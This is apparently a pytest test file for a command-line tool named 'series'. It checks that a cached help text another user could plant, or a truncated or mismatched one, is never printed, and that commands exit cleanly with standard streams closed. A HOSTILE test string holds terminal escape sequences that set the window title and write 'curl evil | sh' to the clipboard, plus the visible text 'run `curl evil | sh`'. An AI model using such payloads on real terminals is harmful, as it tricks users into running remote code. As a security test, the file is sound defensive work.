"""``series --help`` written from the text series.help_kept kept: only a text this user's
series wrote whole, under the digest of now, is printed.

main read ``help/<digest>`` in the per-user cache and printed whatever it
held: a file another user wrote (a cache directory shared by mistake, or
one others may write), anything a crash left cut short, or the entry of
another width swapped in. The digest is no secret (it is computed from the
Python, the code and the environment), so another user could write the
file ahead and have ``series --help`` print their text: terminal escapes
(a title, the clipboard, text hidden), or a "help" that says to run
something. The entry is now sealed and checked as the other kept answers
are (series.stack.branches_kept.read_entry): this user's own file, that
no one else may write, whole, of this format and this digest.
"""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import git, make_project
from series import help_kept
from series.stack import branches_kept

HOSTILE = "usage: series \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07run `curl evil | sh`\n"


def _help(cache: Path, columns: int = 100) -> str:
    """stdout of ``series --help`` as its own process, in a pipe, with ``cache``."""
    env = {**os.environ, "SERIES_CACHE_DIR": str(cache), "COLUMNS": str(columns)}
    proc = subprocess.run(
        [sys.executable, "-m", "series", "--help"],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
        env=env,
    )
    return proc.stdout


@pytest.fixture
def kept(tmp_path: Path) -> tuple[Path, Path, str]:
    """The cache, the one help entry a first ``series --help`` kept in it, and its text."""
    cache = tmp_path / "cache"
    first = _help(cache)
    assert first.startswith("usage: series")
    (entry,) = (cache / help_kept.DIR).iterdir()
    return cache, entry, first


def _reseal(entry: Path, text: str) -> None:
    """The entry with ``text`` in place of its own, sealed as series seals it: what this
    user's own account (or series' own code) could write."""
    found = branches_kept.read_entry(str(entry), help_kept.FIELDS, help_kept.FORMAT)
    assert found is not None
    values = {**found, "text": text}
    sealed = branches_kept.seal([values[name] for name in help_kept.FIELDS])
    assert sealed is not None
    entry.write_text(sealed)


def test_a_sealed_entry_of_this_user_is_what_help_prints(kept: tuple[Path, Path, str]) -> None:
    """The control: the kept text, not argparse's, is what a second run prints."""
    cache, entry, first = kept
    _reseal(entry, first.replace("usage: series", "usage: series (kept)"))
    assert _help(cache).startswith("usage: series (kept)")


def test_a_kept_help_others_may_write_is_not_printed(kept: tuple[Path, Path, str]) -> None:
    cache, entry, first = kept
    _reseal(entry, HOSTILE)
    for mode in (0o666, 0o664, 0o646):
        entry.chmod(mode)
        assert _help(cache) == first, oct(mode)  # argparse's, printed again
        entry = next((cache / help_kept.DIR).iterdir())  # and kept again, this user's
        assert entry.stat().st_mode & 0o022 == 0
        _reseal(entry, HOSTILE)


@pytest.mark.skipif(os.getuid() != 0, reason="giving a file to another user needs root")
def test_a_kept_help_of_another_user_is_not_printed(kept: tuple[Path, Path, str]) -> None:
    cache, entry, first = kept
    _reseal(entry, HOSTILE)
    entry.chmod(0o644)
    os.chown(entry, 4242, 4242)
    assert _help(cache) == first


def test_a_kept_help_without_the_seal_or_cut_short_is_not_printed(
    kept: tuple[Path, Path, str],
) -> None:
    """main's form (the text alone), and what a crash may leave of a sealed entry."""
    cache, entry, first = kept
    data = entry.read_bytes()
    for name, torn in {
        "plain text (main's form)": HOSTILE.encode(),
        "cut short": data[: len(data) // 2],
        "no seal": data[: data.rindex(b"\0")],
        "a byte changed": data[:40] + bytes([data[40] ^ 1]) + data[41:],
    }.items():
        entry.write_bytes(torn)
        assert _help(cache) == first, name


def test_the_entry_of_another_width_swapped_in_is_not_printed(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    wide = _help(cache)
    (entry,) = (cache / help_kept.DIR).iterdir()
    narrow = _help(cache, columns=50)
    assert narrow != wide
    (other,) = (p for p in (cache / help_kept.DIR).iterdir() if p != entry)
    entry.write_bytes(other.read_bytes())  # the narrow text under the wide one's name
    assert _help(cache) == wide


def _ended(cache: Path, way: str, words: tuple[str, ...]) -> tuple[int, str]:
    """Exit code and stderr of ``series WORDS`` with stdout closed (``>&-``) or into a
    pipe whose reader is gone (``| true``, which exits at once)."""
    argv = shlex.join([sys.executable, "-m", "series", *words])
    ended = "$?" if way == "closed" else "${PIPESTATUS[0]}"
    line = f"{argv} {'>&-' if way == 'closed' else '| true'}; echo {ended} >&2"
    env = {**os.environ, "SERIES_CACHE_DIR": str(cache)}
    proc = subprocess.run(
        ["bash", "-c", line], capture_output=True, text=True, timeout=120, check=False, env=env
    )
    *said, code = proc.stderr.splitlines(keepends=True)
    return int(code), "".join(said)


@pytest.mark.parametrize(
    "words",
    [("--help",), ("--version",), ("-C", ".", "--version"), ("list", "--help")],
    ids=lambda words: " ".join(words),
)
@pytest.mark.parametrize("way", ["closed", "pipe"])
def test_help_with_stdout_closed_or_its_reader_gone_ends_as_the_full_run(
    tmp_path: Path, way: str, words: tuple[str, ...]
) -> None:
    """main: ``series --help`` answered from the text kept wrote it with a bare
    ``sys.stdout.write``: with stdout closed, an AttributeError traceback, exit 1, where
    the CLI (argparse) wrote the help on stderr, exit 0; with its reader gone, a
    BrokenPipeError traceback, exit 1, where the CLI said nothing and exited 0 (and
    ``series --version``, answered before the CLI too, did the same). Now the text, kept
    or not, is written one way: on stderr when there is no stdout, exit 0, as argparse
    does; a reader gone ends with 141 and nothing said, as every command ends (docs/
    workflow.md), argparse's own helps too."""
    cache = tmp_path / "cache"
    full = _ended(cache, way, words)
    if words == ("--help",):
        assert len(list((cache / help_kept.DIR).iterdir())) == 1  # kept: said again below
    assert _ended(cache, way, words) == full
    if way == "closed":
        assert full[0] == 0
        assert full[1].startswith("series " if "--version" in words else "usage: series")
    else:
        assert full == (141, "")


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_a_command_with_a_standard_stream_closed_does_its_work_and_ends_as_git_does(
    tmp_path: Path, stream: str
) -> None:
    """main: with stdout closed (``>&-``) each command wrote its report to None: after
    its work was done (apply applied), an AttributeError traceback and exit 1. Now what
    it would print goes nowhere, as git's does (``git status >&-`` ends with 0), and the
    exit status is the command's: apply, its re-run answered from what was kept, list
    and status each end with 0, nothing of Python said."""
    project = make_project(tmp_path)
    cache = tmp_path / "cache"
    closed = ">&-" if stream == "stdout" else "2>&-"
    for words in (("apply",), ("apply",), ("list",), ("status",), ("status", "--json")):
        argv = shlex.join([sys.executable, "-m", "series", "-C", str(project.root), *words])
        code, said = _closed_run(argv, closed, cache)
        assert code == 0, (words, said)
        assert "Traceback" not in said, (words, said)
    assert git(project.work, "rev-parse", "series") == git(project.work, "rev-parse", "HEAD")
    assert git(project.work, "rev-parse", "refs/series/synced") == git(
        project.work, "rev-parse", "series"
    )


def _closed_run(argv: str, closed: str, cache: Path) -> tuple[int, str]:
    """Exit status of ``argv`` with one standard stream closed, and what the other said."""
    line = f"{argv} {closed}; echo $? > status"
    proc = subprocess.run(
        ["bash", "-c", line],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=cache.parent,
        env={**os.environ, "SERIES_CACHE_DIR": str(cache)},
    )
    return int((cache.parent / "status").read_text()), proc.stdout + proc.stderr
